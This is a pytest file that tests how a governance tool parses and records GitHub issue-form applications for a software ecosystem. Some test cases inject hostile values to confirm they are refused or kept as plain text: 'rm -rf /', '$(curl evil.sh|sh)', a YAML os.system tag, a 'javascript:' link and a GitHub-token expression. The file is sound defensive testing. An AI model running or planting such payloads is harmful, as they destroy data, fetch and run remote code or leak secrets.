"""ECO-SUBMIT: the issue form, reading submitted bodies (including hostile ones), and intake."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
import yaml
from eco_helpers import REPO_ROOT, project, read_project, write_project

from charter.ecosystem import form
from charter.load import load
from charter.tree import FsTree

TEMPLATE = REPO_ROOT / ".github" / "ISSUE_TEMPLATE" / "ecosystem-application.yml"

# A body as GitHub renders a submitted issue form: "### Label", a blank line, the answer.
BODY = """### Project name

Torch Orbit

### Repository

https://github.com/orbit-ml/torch-orbit

### Value proposition

Orbit makes distributed checkpoints *boring*:

```python
### not a heading: this is a comment inside a code block
import orbit
orbit.save(model)
```

### Licence

Apache-2.0

### Core maintainers

@sam-lee
@RiverStone, jo-k

### Documentation

https://orbit-ml.github.io/docs

### Quick start

pip install torch-orbit

### Continuous integration

https://github.com/orbit-ml/torch-orbit/actions

### Functional tests

_No response_

### Binary packages

pip and conda-forge

### Supported framework versions

2.6, 2.5.1

### Governance

_No response_

### Maintenance commitment

- [X] MAINTENANCE

### Contacts

Sam Lee <sam@orbit.dev>

### Previous application

_No response_

### Presentation video

_No response_
""".replace("MAINTENANCE", form.BY_ID["maintenance"].options[0])


def test_eco_submit_template_matches_the_parser() -> None:
    """Every field of the issue form is one the parser knows, with the same label and kind."""
    spec = yaml.safe_load(TEMPLATE.read_text(encoding="utf-8"))
    fields = [b for b in spec["body"] if b["type"] != "markdown"]
    assert [f["id"] for f in fields] == [f.id for f in form.FIELDS]
    for f in fields:
        mine = form.BY_ID[f["id"]]
        assert f["attributes"]["label"] == mine.label
        assert f["type"] == mine.kind
        assert bool(f.get("validations", {}).get("required")) == mine.required or \
            f["type"] == "checkboxes"
        if f["type"] == "dropdown":
            assert tuple(f["attributes"]["options"]) == mine.options


def test_eco_submit_sections() -> None:
    s = form.sections(BODY)
    assert s["name"] == "Torch Orbit"
    assert "### not a heading" in s["description"]
    assert s["tests"] is None and s["governance"] is None
    assert s["licence"] == "Apache-2.0"


def test_eco_submit_record() -> None:
    rec = form.to_record(form.sections(BODY), issue=42, today=dt.date(2026, 11, 21))
    assert rec["slug"] == "torch-orbit"
    assert rec["repository"] == "orbit-ml/torch-orbit"
    assert rec["status"] == "new" and rec["issue"] == 42 and rec["submitted"] == "2026-11-21"
    assert rec["maintainers"] == ["sam-lee", "RiverStone", "jo-k"]
    assert rec["links"] == {"documentation": "https://orbit-ml.github.io/docs",
                            "ci": "https://github.com/orbit-ml/torch-orbit/actions"}
    assert "returning" not in rec


@pytest.mark.parametrize(("mutate", "message"), [
    (lambda b: b + "\n### Repository\n\nevil/evil\n", "appears twice"),
    (lambda b: b.replace("https://github.com/orbit-ml/torch-orbit\n",
                         "https://github.com/orbit-ml/torch-orbit; rm -rf /\n"), "Repository"),
    (lambda b: b.replace("@sam-lee", "$(curl evil.sh|sh)"), "not a GitHub login"),
    (lambda b: b.replace("https://orbit-ml.github.io/docs", "javascript:alert(1)"),
     "https:// link"),
    (lambda b: b.replace("- [X] We", "- [ ] We"), "must be ticked"),
    (lambda b: b.replace("Torch Orbit", "_No response_"), "Project name"),
    (lambda b: b.replace("### Licence", "```\n### Licence"), "Licence"),  # unclosed fence
    (lambda b: b + "x" * form.MAX_BODY, "characters"),
    (lambda b: b.replace("Torch Orbit", "Torch\nOrbit"), "single line"),
])
def test_eco_submit_hostile_bodies_are_refused(mutate, message) -> None:
    with pytest.raises(form.FormError, match=message):
        form.to_record(form.sections(mutate(BODY)), issue=1, today=dt.date(2026, 11, 21))


def test_eco_submit_control_and_bidi_characters_are_dropped() -> None:
    body = BODY.replace("Torch Orbit", "Torch\u202e Orbit\x07").replace("\n", "\r\n")
    rec = form.to_record(form.sections(body), issue=1, today=dt.date(2026, 11, 21))
    assert rec["name"] == "Torch Orbit"


def test_eco_queue_previous_application_on_the_form_is_only_a_claim() -> None:
    # Was: naming any issue under "Previous application" made the record returning: true
    body = BODY.replace("### Previous application\n\n_No response_",
                        "### Previous application\n\n#17")
    answers = form.sections(body)
    rec = form.to_record(answers, issue=50, today=dt.date(2026, 11, 21))
    assert "returning" not in rec and "previous_issue" not in rec
    assert form.claimed_previous(answers) == 17
    assert rec["application"]["previous_issue"] == "#17"  # kept with the answers


def test_eco_queue_claimed_previous_application_without_record_is_queued_fifo(
        charter, eco_repo, tmp_path) -> None:
    """A first-time applicant who names an earlier issue does not jump the queue: no record of
    an earlier application exists, so it is a new application, and intake says so."""
    for n, slug in enumerate(("first", "second")):
        (eco_repo / "ecosystem" / f"{slug}.yaml").write_text(yaml.safe_dump({
            "slug": slug, "name": slug, "repository": f"org/{slug}", "status": "new",
            "issue": 10 + n, "submitted": "2026-10-01"}), encoding="utf-8")
    body = BODY.replace("### Previous application\n\n_No response_",
                        "### Previous application\n\n#3")
    code, _out, err = _intake(charter, eco_repo, tmp_path, body, "--number", "42")
    assert code == 0, err
    assert ("ecosystem/torch-orbit.yaml: ECO-QUEUE warning: torch-orbit: its application form "
            "names #3 as an earlier application, but charter holds no decision on an earlier "
            "application of orbit-ml/torch-orbit; it is queued as a new application") in err
    assert "returning" not in read_project(eco_repo, "torch-orbit")
    code, out, err = charter("ecosystem", "queue", "--repo", str(eco_repo), "--session",
                             "2026-12-10", "--format", "json", today="2026-11-21")
    assert code == 0, err
    import json

    order = [(e["slug"], e["returning"]) for e in json.loads(out)["queue"]]
    assert order == [("first", False), ("second", False), ("torch-orbit", False)]
    state, _ = load(FsTree(eco_repo))
    from charter.rules import run as run_rules

    [f] = [f for f in run_rules(state) if f.rule == "ECO-QUEUE"]
    assert f.path == "ecosystem/torch-orbit.yaml" and f.severity.value == "warning"
    assert f.line > 1 and "queued as a new application" in f.message


def _intake(charter, root: Path, tmp_path: Path, body: str, *extra: str, today="2026-11-21"):
    f = tmp_path / "body.md"
    f.write_text(body, encoding="utf-8")
    return charter("ecosystem", "intake", "--repo", str(root), "--body-file", str(f), *extra,
                   today=today)


def test_eco_submit_intake_writes_a_valid_record(charter, eco_repo, tmp_path) -> None:
    code, out, err = _intake(charter, eco_repo, tmp_path, BODY, "--number", "42")
    assert code == 0, err
    assert "wrote ecosystem/torch-orbit.yaml" in out
    data = read_project(eco_repo, "torch-orbit")
    assert data["status"] == "new" and data["issue"] == 42
    state, findings = load(FsTree(eco_repo))
    assert "torch-orbit" in state.projects
    assert not [f for f in findings if f.path.startswith("ecosystem/")]
    # the same issue again is refused, nothing is overwritten
    code, out, err = _intake(charter, eco_repo, tmp_path, BODY, "--number", "42")
    assert code == 1 and "already recorded" in err


def test_eco_submit_intake_refuses_bad_body_with_one_line(charter, eco_repo, tmp_path) -> None:
    code, _out, err = _intake(charter, eco_repo, tmp_path, BODY.replace("Apache-2.0\n", "\n"))
    assert code == 1
    assert err.count("\n") == 1 and "Licence" in err
    assert list((eco_repo / "ecosystem").iterdir()) == []


def test_eco_resubmit_declined_waits_three_months(charter, eco_repo, tmp_path) -> None:
    wg = ["priya-nair", "omar-haddad", "yuki-sato", "bruno-costa", "anya-ivanova"]
    write_project(eco_repo, project(
        "torch-orbit", "orbit-ml/torch-orbit", status="declined", issue=30,
        decisions=[{"date": "2026-09-10", "outcome": "declined", "for": wg[:2],
                    "against": wg[2:], "working_group": wg}]))
    code, _, err = _intake(charter, eco_repo, tmp_path, BODY, "--number", "44",
                           today="2026-12-09")
    assert code == 1 and "ECO-RESUBMIT" in err and "2026-12-10" in err
    code, _out, err = _intake(charter, eco_repo, tmp_path, BODY, "--number", "44",
                             today="2026-12-10")
    assert code == 0, err
    data = read_project(eco_repo, "torch-orbit")
    assert data["status"] == "new" and data["issue"] == 44 and data["previous_issue"] == 30
    assert data["decisions"][0]["outcome"] == "declined"  # the history stays


def test_eco_submit_intake_from_github_issue(charter, eco_repo, fake) -> None:
    fake.issues["lumen-ml/governance"] = [{"number": 1, "title": "[Ecosystem application]: Orbit",
                                           "body": BODY, "state": "open",
                                           "labels": ["ecosystem-application"]}]
    code, _out, err = charter("ecosystem", "intake", "--repo", str(eco_repo), "--issue", "1",
                             "--github-api", fake.url, "--backoff", "0", today="2026-11-21")
    assert code == 0, err
    assert read_project(eco_repo, "torch-orbit")["issue"] == 1
    assert fake.count("GET", "/repos/lumen-ml/governance/issues/1") == 1


def test_eco_submit_yaml_and_expression_lookalikes_stay_text(charter, eco_repo, tmp_path) -> None:
    nasty = ("&a [*a, *a]\n!!python/object/apply:os.system ['id']\n${{ github.token }}\n"
             "---\n<<: *a\n$(touch /tmp/pwned) `id` 'quote\" \\\\")
    body = BODY.replace("pip install torch-orbit", nasty)
    code, _, err = _intake(charter, eco_repo, tmp_path, body, "--number", "9")
    assert code == 0, err
    data = read_project(eco_repo, "torch-orbit")  # charter's strict loader: no alias, no tag
    assert data["application"]["quick_start"] == nasty
    _state, findings = load(FsTree(eco_repo))
    assert not [f for f in findings if f.path.startswith("ecosystem/")]


def test_eco_submit_nested_fences_crlf_and_returning() -> None:
    """A ~~~~ fence holding a ``` fence holding "### Licence" and "### Repository" is text."""
    body = (Path(__file__).parent / "forms" / "tilde-fence-returning.md").read_bytes().decode()
    assert "\r\n" in body
    rec = form.to_record(form.sections(body), issue=90, today=dt.date(2026, 11, 21))
    assert rec["repository"] == "vector-lens/vlens"
    assert rec["licence"] == "MIT"
    assert "attacker/evil" in rec["description"] and "It ships a CLI." in rec["description"]
    assert rec["maintainers"] == ["lena-v", "ote-k"]
    assert rec["links"]["documentation"] == "https://vlens.readthedocs.io/en/latest/"
    assert "returning" not in rec and form.claimed_previous(form.sections(body)) == 77
    assert rec["slug"] == "vlens"


def test_eco_queue_on_the_shipped_data_via_the_entry_point(run_charter, repo_root) -> None:
    proc = run_charter("ecosystem", "queue", "--repo", str(repo_root), "--format", "json",
                       env={"CHARTER_TODAY": "2026-11-28"})
    assert proc.returncode == 0, proc.stderr
    import json

    q = json.loads(proc.stdout)
    assert q["queue"][0]["slug"] == "graphkit"  # returning first
    assert [e["issue"] for e in q["queue"][1:]] == sorted(e["issue"] for e in q["queue"][1:])


def test_eco_submit_same_name_other_owner_gets_its_own_file(charter, eco_repo, tmp_path) -> None:
    write_project(eco_repo, project("torch-orbit", "someone-else/torch-orbit"))
    code, out, err = _intake(charter, eco_repo, tmp_path, BODY, "--number", "60")
    assert code == 0, err
    assert "ecosystem/orbit-ml-torch-orbit.yaml" in out
    assert read_project(eco_repo, "torch-orbit")["repository"] == "someone-else/torch-orbit"
    assert read_project(eco_repo, "orbit-ml-torch-orbit")["issue"] == 60


def test_eco_submit_retired_project_may_reapply(charter, eco_repo, tmp_path) -> None:
    write_project(eco_repo, project(
        "torch-orbit", "orbit-ml/torch-orbit", status="retired",
        retired={"date": "2026-02-01", "reason": "ECO-PERIODIC: short"},
        decisions=[{"date": "2026-02-01", "outcome": "retired", "reason": "short"}]))
    code, _out, err = _intake(charter, eco_repo, tmp_path, BODY, "--number", "61")
    assert code == 0, err
    data = read_project(eco_repo, "torch-orbit")
    assert data["status"] == "new" and data["issue"] == 61 and "returning" not in data
    assert data["previous_issue"] == 10 and data["retired"]["date"] == "2026-02-01"
